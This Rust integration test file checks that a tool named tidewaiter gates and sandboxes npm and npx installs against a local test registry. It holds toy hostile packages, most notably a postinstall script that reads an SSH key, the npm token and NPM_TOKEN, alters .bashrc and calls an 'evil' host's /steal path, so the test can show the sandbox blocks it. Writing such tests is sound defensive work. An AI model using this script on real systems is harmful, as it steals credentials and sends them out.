//! The real npm and npx in the closed world of a plan, against a registry on the loopback with toy packages.

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};

use serde_json::json;
use tidewaiter::advisories::database::Lazy;
use tidewaiter::cli::process::Disk;
use tidewaiter::enforce::sandbox::{self, Confined};
use tidewaiter::enforce::{self, EnforceError, Job, Limits, Outcome, Sandbox, Step, Uncontained, Upstream};
use tidewaiter::invocation::{self, Flag, Invocation};
use tidewaiter::judge::{Connected, Judge, Via, World};
use tidewaiter::model::{Environment, InterpreterFacts, Setting};
use tidewaiter::registry::connect::{Options, Registries};
use tidewaiter::registry::{CrateIndex, NpmRegistry, PythonIndex, npm_config};
use tidewaiter::{policy, rules, toolchain};

use crate::support::loopback::{Fault, Loopback};

const OLD: &str = "2020-01-01T00:00:00Z";

/// A home, a project and a registry.
pub(crate) struct Rig {
    root: tempfile::TempDir,
    pub(crate) server: Loopback,
    variables: Vec<(String, String)>,
}

/// `None`, said, where there is no npm.
pub(crate) fn rig() -> Option<Rig> {
    let there = Command::new("npm").arg("--version").output().is_ok_and(|o| o.status.success());
    if !there {
        eprintln!("skipped: there is no npm here");
        return None;
    }
    let root = tempfile::tempdir().unwrap();
    for name in ["home", "work", "cache"] {
        std::fs::create_dir(root.path().join(name)).unwrap();
    }
    let server = Loopback::start();
    let variables = vec![
        ("PATH".to_owned(), std::env::var("PATH").unwrap_or_default()),
        ("HOME".to_owned(), root.path().join("home").display().to_string()),
        ("npm_config_globalconfig".to_owned(), root.path().join("none").display().to_string()),
        ("npm_config_loglevel".to_owned(), "error".to_owned()),
    ];
    let rig = Rig { root, server, variables };
    rig.write("../home/.npmrc", &format!("registry={}\nupdate-notifier=false\nfund=false\n", rig.server.npm_url()));
    rig.write("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}\n");
    Some(rig)
}

/// A registry with `tw-a`, which needs `tw-b`.
pub(crate) fn with_packages() -> Option<Rig> {
    let rig = rig()?;
    rig.server
        .npm(
            "tw-a",
            "1.0.0",
            OLD,
            json!({"dependencies": {"tw-b": "^1.0.0"}, "license": "MIT", "engines": {"node": ">=8"}}),
        )
        .npm("tw-b", "0.9.0", OLD, json!({}))
        .npm_with("tw-b", "1.0.0", OLD, json!({"main": "index.js"}), &[("index.js", "module.exports = 'b1'\n")]);
    Some(rig)
}

/// Runs steps in the real sandbox, by the program that this package builds.
pub(crate) struct ByEngine;

impl Sandbox for ByEngine {
    fn contain(&self, mut step: Step, limits: &Limits, job: &Job<'_>) -> Result<Step, EnforceError> {
        let mut profile = Confined::profile(limits, job.environment, &job.policy.sandbox);
        profile.namespaces = false;
        step.arguments = sandbox::arguments(&step.program, &step.arguments);
        step.program = env!("CARGO_BIN_EXE_tidewaiter").into();
        let (name, value) = sandbox::variable(&profile);
        step.set(name, value);
        Ok(step)
    }

    fn sentences(&self, _: &Limits) -> Vec<String> {
        Vec::new()
    }
}

impl Rig {
    pub(crate) fn work(&self) -> PathBuf {
        self.root.path().join("work")
    }

    pub(crate) fn write(&self, path: &str, text: &str) -> &Self {
        let path = self.work().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
        self
    }

    pub(crate) fn read(&self, path: &str) -> String {
        std::fs::read_to_string(self.work().join(path)).unwrap_or_default()
    }

    pub(crate) fn clean(&self) {
        for path in ["node_modules", "package-lock.json"] {
            let path = self.work().join(path);
            let _ = if path.is_dir() { std::fs::remove_dir_all(path) } else { std::fs::remove_file(path) };
        }
    }

    pub(crate) fn set(&mut self, name: &str, value: &str) {
        self.variables.push((name.to_owned(), value.to_owned()));
    }

    pub(crate) fn bare(&self, argv: &[&str]) -> Output {
        let mut command = Command::new(argv[0]);
        command.args(&argv[1..]).env_clear().envs(self.variables.iter().cloned()).current_dir(self.work());
        command.output().unwrap()
    }

    pub(crate) fn run(&self, argv: &[&str], between: impl FnOnce(&Self)) -> Outcome {
        self.run_in(argv, &Uncontained, between)
    }

    /// Judges, lets `between` happen, and runs.
    pub(crate) fn run_in(&self, argv: &[&str], sandbox: &dyn Sandbox, between: impl FnOnce(&Self)) -> Outcome {
        self.tried_in(argv, sandbox, between).unwrap()
    }

    /// [`Rig::run_in`], for what may be refused before the tool starts.
    pub(crate) fn tried_in(
        &self,
        argv: &[&str],
        sandbox: &dyn Sandbox,
        between: impl FnOnce(&Self),
    ) -> Result<Outcome, EnforceError> {
        let cache = self.root.path().join("cache");
        let environment = Environment {
            variables: self.variables.iter().cloned().collect(),
            cwd: self.work(),
            home: Some(self.root.path().join("home")),
            now: "2026-01-01T00:00:00Z".parse().unwrap(),
            os: std::env::consts::OS,
            arch: std::env::consts::ARCH,
        };
        let disk = Arc::new(Disk::default());
        let argv: Vec<String> = argv.iter().map(|w| (*w).to_owned()).collect();
        let invocations = invocation::parse(&argv, &environment);
        let advisories = Lazy::new(cache.join("advisories"), environment.now);
        let loaded = policy::load(&environment, &*disk, None, &rules::infos());
        let world = NpmWorld { cache: cache.clone(), disk: Arc::clone(&disk), made: Mutex::default() };
        let judge = Judge {
            environment: &environment,
            files: &*disk,
            advisories: &advisories,
            policy: &loaded.policy,
            world: &world,
            as_of: None,
            said: None,
        };
        let judgement = judge.command(&argv, &invocations, Via::Argv);
        assert!(judgement.plan.complete(), "{:?}", judgement.plan.unresolved);
        let upstream = world.made.lock().unwrap().as_ref().map(|(_, upstream)| upstream.clone()).unwrap();
        let program = toolchain::find(&argv[0], &environment).unwrap();
        let arguments: Vec<OsString> = argv[1..].iter().map(OsString::from).collect();
        between(self);
        let job = Job {
            judgement: &judgement,
            invocation: &invocations[0],
            program: &program,
            arguments: &arguments,
            environment: &environment,
            files: &*disk,
            upstream: &upstream,
            policy: &loaded.policy,
            cache: &cache,
            sandbox,
        };
        enforce::run(&job)
    }
}

/// The user's npm registries, read from the rig's environment and nothing else.
struct NpmWorld {
    cache: PathBuf,
    disk: Arc<Disk>,
    made: Mutex<Option<(Connected<dyn NpmRegistry>, Upstream)>>,
}

impl World for NpmWorld {
    fn python(&self, _: &Invocation, _: &Environment) -> Connected<dyn PythonIndex> {
        panic!("not an npm command")
    }

    fn npm(&self, invocation: &Invocation, environment: &Environment) -> Connected<dyn NpmRegistry> {
        let mut made = self.made.lock().unwrap();
        if let Some((connected, _)) = &*made {
            return connected.clone();
        }
        let options = Options {
            cache: Some(self.cache.clone()),
            offline: false,
            files: self.disk.clone(),
            private: Arc::new(|_| false),
        };
        let sources =
            npm_config::Sources { invocation, environment, files: &*self.disk, prefix: None, trusted: &|_| true };
        let config = npm_config::read(sources).unwrap();
        let npm = Registries::new(options).npm(config.scopes.clone(), config.profile);
        let client = npm.client().clone();
        let registry: Arc<dyn NpmRegistry> = Arc::new(npm);
        let flags = config.options.into_iter().map(Flag::from).collect();
        let connected = Connected { index: Arc::clone(&registry), flags, diagnostics: config.diagnostics };
        *made = Some((connected.clone(), Upstream::Npm { registry, scopes: config.scopes, client }));
        connected
    }

    fn crates(&self, _: &Invocation, _: &Environment) -> Connected<dyn CrateIndex> {
        panic!("not an npm command")
    }

    fn interpreter(&self, _: &Invocation, _: &Environment) -> InterpreterFacts {
        InterpreterFacts::default()
    }

    fn settings(&self) -> Vec<Setting> {
        Vec::new()
    }
}

pub(crate) fn nothing(_: &Rig) {}

pub(crate) fn lines(outcome: &Outcome) -> Vec<String> {
    outcome.refused.iter().map(enforce::Refused::line).collect()
}

pub(crate) fn exists(path: &Path) -> bool {
    path.symlink_metadata().is_ok()
}

#[test]
fn an_allowed_install_works_and_writes_what_a_bare_one_writes() {
    let Some(rig) = with_packages() else { return };
    let written =
        |rig: &Rig| ["package.json", "package-lock.json", "node_modules/.package-lock.json"].map(|p| rig.read(p));
    let outcome = rig.run(&["npm", "install", "tw-a"], nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
    assert_eq!(outcome.served.len(), 2, "{outcome:?}");
    let ran = rig.bare(&["node", "-e", "console.log(require('tw-b'), require('tw-a/package.json').version)"]);
    assert_eq!(String::from_utf8_lossy(&ran.stdout), "b1 1.0.0\n", "{ran:?}");
    let gated = written(&rig);
    std::fs::remove_dir_all(rig.work().join("node_modules")).unwrap();
    let outcome = rig.run(&["npm", "ci"], nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
    assert_eq!(written(&rig), gated);
    rig.clean();
    rig.write("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}\n");
    let bare = rig.bare(&["npm", "install", "tw-a"]);
    assert!(bare.status.success(), "{bare:?}");
    assert_eq!(written(&rig), gated);
    assert!(gated[1].contains(&format!("{}tw-b/-/tw-b-1.0.0.tgz", rig.server.npm_url())), "{}", gated[1]);
}

#[test]
fn what_changes_between_judging_and_installing_does_not_come_in() {
    type Change = fn(&Rig);
    let tarball = "/npm/tw-b/-/tw-b-1.0.0.tgz";
    let changes: &[(&str, Change, bool)] = &[
        ("a newer version", |r| _ = r.server.npm("tw-b", "1.1.0", OLD, json!({})), true),
        ("other bytes", |r| _ = r.server.raw("/npm/tw-b/-/tw-b-1.0.0.tgz", "x/y", b"other".to_vec()), false),
        ("one bent byte", |r| _ = r.server.always("/npm/tw-b/-/", Fault::BentByte), false),
        ("half of it", |r| _ = r.server.always("/npm/tw-b/-/", Fault::Truncated), false),
        (
            "the same version anew, with its digest",
            |r| _ = r.server.npm("tw-b", "1.0.0", OLD, json!({"dependencies": {"tw-evil": "1"}})),
            false,
        ),
    ];
    for (what, change, installs) in changes {
        let Some(rig) = with_packages() else { return };
        let outcome = rig.run(&["npm", "install", "tw-a"], change);
        assert_eq!(outcome.ended.success(), *installs, "{what}: {outcome:?}");
        if *installs {
            assert!(rig.read("package-lock.json").contains("tw-b-1.0.0.tgz"), "{what}");
        } else {
            assert!(!exists(&rig.work().join("node_modules/tw-b")), "{what}");
            assert!(lines(&outcome).iter().any(|l| l.starts_with("tidewaiter: tw-b")), "{what}: {outcome:?} {tarball}");
        }
    }
}

#[test]
fn files_and_variables_cannot_lead_elsewhere() {
    let evil = Loopback::start();
    evil.npm("tw-a", "9.0.0", OLD, json!({})).npm("tw-b", "9.0.0", OLD, json!({}));
    let Some(mut rig) = with_packages() else { return };
    rig.server.npm("@acme/c", "1.0.0", OLD, json!({}));
    rig.set("NO_PROXY", "*");
    rig.set("NPM_CONFIG_NOPROXY", "*");
    rig.set("NPM_CONFIG_PREFER_OFFLINE", "true");
    let between = |rig: &Rig| {
        let url = evil.npm_url();
        rig.write(
            ".npmrc",
            &format!("registry={url}\n@acme:registry={url}\nreplace-registry-host=never\nproxy={url}\n"),
        );
        rig.write("../home/.npmrc", &format!("registry={url}\nhttps-proxy={url}\n"));
    };
    let registry = format!("--registry={}", rig.server.npm_url());
    let outcome = rig.run(&["npm", "install", "tw-a", &registry, "@acme/c", "--no-audit"], between);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
    assert_eq!(evil.paths(), [""; 0]);
    assert!(exists(&rig.work().join("node_modules/@acme/c/package.json")));
    rig.write(".npmrc", "").write("../home/.npmrc", &format!("registry={}\n", rig.server.npm_url()));
    rig.write("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}\n");
    // What is not in the plan and not at a registry is asked for at the gateway, which says no.
    rig.clean();
    let manifest = format!(
        "{{\"name\": \"app\", \"version\": \"1.0.0\", \"dependencies\": {{\"tw-x\": \"{}/npm/tw-a/-/tw-a-9.0.0.tgz\"}}}}",
        evil.url
    );
    let outcome = rig.run(&["npm", "install", "tw-a"], |rig| _ = rig.write("package.json", &manifest));
    assert!(!outcome.ended.success(), "{outcome:?}");
    assert_eq!(evil.paths(), [""; 0]);
}

#[test]
fn a_lockfile_written_in_between_brings_nothing_in_from_a_warm_cache() {
    let Some(rig) = with_packages() else { return };
    rig.server.npm(
        "tw-evil",
        "1.0.0",
        OLD,
        json!({"scripts": {"postinstall": "node -e \"require('fs').writeFileSync('../../mark', '')\""}}),
    );
    rig.bare(&["npm", "install", "tw-evil", "--ignore-scripts"]);
    let (manifest, lock) = (rig.read("package.json"), rig.read("package-lock.json"));
    assert!(lock.contains("tw-evil"), "{lock}");
    rig.clean();
    rig.write("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}\n");
    rig.bare(&["npm", "install", "tw-a", "--package-lock-only"]);
    let outcome = rig.run(&["npm", "ci"], |rig| {
        rig.write("package.json", &manifest).write("package-lock.json", &lock);
    });
    assert_ne!(outcome.ended.status(), 0, "{outcome:?}");
    assert!(lines(&outcome).iter().any(|l| l.starts_with("tidewaiter: tw-evil 1.0.0 ")), "{outcome:?}");
    assert!(!exists(&rig.work().join("mark")));
}

#[test]
fn a_scope_with_a_token_of_its_own() {
    let Some(rig) = with_packages() else { return };
    let private = Loopback::start();
    private.npm("@my_team/x", "1.0.0", OLD, json!({"dependencies": {"tw-b": "1"}}));
    private.password("", "Bearer sesame");
    let host = private.url.strip_prefix("http:").unwrap();
    let config = format!(
        "registry={}\n@my_team:registry={}\n{host}/npm/:_authToken=sesame\n",
        rig.server.npm_url(),
        private.npm_url()
    );
    rig.write("../home/.npmrc", &config);
    let outcome = rig.run(&["npm", "install", "@my_team/x"], nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
    assert!(exists(&rig.work().join("node_modules/@my_team/x/package.json")));
    assert!(private.log().iter().all(|l| l.header("authorization") == Some("Bearer sesame")));
    assert!(rig.server.log().iter().all(|l| l.header("authorization").is_none()), "{:?}", rig.server.log());
    let lock = rig.read("package-lock.json");
    assert!(lock.contains(&format!("{}@my_team/x/-/x-1.0.0.tgz", private.npm_url())), "{lock}");
}

#[test]
fn scripts_run_when_they_were_cleared() {
    let Some(rig) = with_packages() else { return };
    let writes = |name: &str| {
        format!(
            "node -e \"require('fs').writeFileSync('{}/{name}', process.env.npm_config_registry || '')\"",
            rig.work().display()
        )
    };
    let scripts =
        json!({"scripts": {"preinstall": writes("one"), "postinstall": writes("two")}, "dependencies": {"tw-b": "1"}});
    rig.server.npm("tw-s", "1.0.0", OLD, scripts.clone());
    let manifest = json!({"name": "app", "version": "1.0.0", "dependencies": {"tw-s": "1"},
        "scripts": {"prepare": writes("own"), "postprepare": writes("after"), "test": writes("test")}});
    rig.write("package.json", &manifest.to_string());
    let marks = |rig: &Rig| ["one", "two", "own", "after", "test"].map(|m| exists(&rig.work().join(m)));
    rig.write(".npmrc", "ignore-scripts=true\n");
    let outcome = rig.run(&["npm", "install"], nothing);
    assert_eq!(outcome.ended.status(), 0, "{outcome:?}");
    assert_eq!(marks(&rig), [false; 5]);
    rig.write(".npmrc", "");
    let outcome = rig.run(&["npm", "ci"], nothing);
    assert_eq!((outcome.ended.status(), &outcome.said), (0, &vec![]), "{outcome:?}");
    assert_eq!(marks(&rig), [true, true, true, true, false]);
    assert!(!rig.read("two").contains("127.0.0.1") || rig.read("two") == rig.server.npm_url(), "{}", rig.read("two"));
    // The lockfile brings it, and the registry said nothing of scripts when it was judged.
    rig.clean();
    let failing = json!({"scripts": {"postinstall": "exit 7"}});
    rig.server.npm("tw-f", "1.0.0", OLD, failing);
    let outcome = rig.run(&["npm", "install", "tw-f"], nothing);
    assert_ne!(outcome.ended.status(), 0, "a script that fails ends the install: {outcome:?}");
}

#[test]
fn npx_fetches_what_was_cleared_and_runs_it_as_it_would_have_run() {
    let Some(rig) = with_packages() else { return };
    let code = "#!/usr/bin/env node\nrequire('fs').writeFileSync('said', JSON.stringify([process.argv.slice(2), \
                Object.keys(process.env).filter(n => /^npm_config_.*(registry|auth|shell|ignore.scripts)|proxy/i.test(n)), \
                require('tw-b')]))\n";
    rig.server.npm_with(
        "tw-run",
        "1.0.0",
        OLD,
        json!({"bin": "cli.js", "dependencies": {"tw-b": "1"}}),
        &[("cli.js", code)],
    );
    let outcome = rig.run(&["npx", "--yes", "tw-run", "--registry=x", "a b", "it's"], nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
    let gated = rig.read("said");
    assert!(gated.starts_with("[[\"--registry=x\",\"a b\",\"it's\"],"), "{gated}");
    let bare = rig.bare(&["npx", "--yes", "tw-run", "--registry=x", "a b", "it's"]);
    assert!(bare.status.success(), "{bare:?}");
    let without = |text: &str| -> Vec<String> {
        let value: serde_json::Value = serde_json::from_str(text).unwrap();
        value[1]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap().to_owned())
            .filter(|n| n != "npm_config_noproxy")
            .collect()
    };
    assert_eq!(without(&rig.read("said")), without(&gated));
}

#[test]
fn a_hostile_script_reaches_nothing() {
    let Some(rig) = with_packages() else { return };
    let available = sandbox::availability_with(Path::new(env!("CARGO_BIN_EXE_tidewaiter")));
    if !available.works() || available.landlock_abi < 4 {
        eprintln!("skipped: {}", available.words().join("; "));
        return;
    }
    rig.write("../home/.ssh/id_ed25519", "PRIVATE").write("../home/.bashrc", "# mine\n");
    let evil = Loopback::start();
    let code = format!(
        "const fs = require('fs'), out = [], t = (n, f) => {{ try {{ f(); out.push(n) }} catch {{}} }};\n\
         t('key', () => fs.readFileSync(process.env.HOME + '/.ssh/id_ed25519'));\n\
         t('token', () => fs.readFileSync(process.env.HOME + '/.npmrc'));\n\
         t('bashrc', () => fs.appendFileSync(process.env.HOME + '/.bashrc', 'x'));\n\
         if (process.env.NPM_TOKEN) out.push('env');\n\
         const done = () => {{ fs.writeFileSync('{}/ran', out.join()); process.exit() }};\n\
         require('http').get('{}/steal', () => {{ out.push('net'); done() }}).on('error', done);\n",
        rig.work().display(),
        evil.url
    );
    let mut rig = rig;
    rig.set("NPM_TOKEN", "PRIVATE");
    rig.server.npm_with(
        "tw-h",
        "1.0.0",
        OLD,
        json!({"scripts": {"postinstall": "node steal.js"}}),
        &[("steal.js", &code)],
    );
    let outcome = rig.run_in(&["npm", "install", "tw-h"], &ByEngine, nothing);
    assert_eq!((outcome.ended.status(), rig.read("ran")), (0, String::new()), "{outcome:?}");
    assert!(exists(&rig.work().join("ran")) && exists(&rig.work().join("node_modules/tw-h/package.json")));
    assert_eq!(evil.paths(), [""; 0]);
    assert_eq!(rig.read("../home/.bashrc"), "# mine\n");
    // Outside it does all of that, so that the attack is one.
    rig.clean();
    rig.write("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}\n");
    assert!(rig.bare(&["npm", "install", "tw-h"]).status.success());
    assert_eq!(rig.read("ran"), "key,token,bashrc,env,net");
}
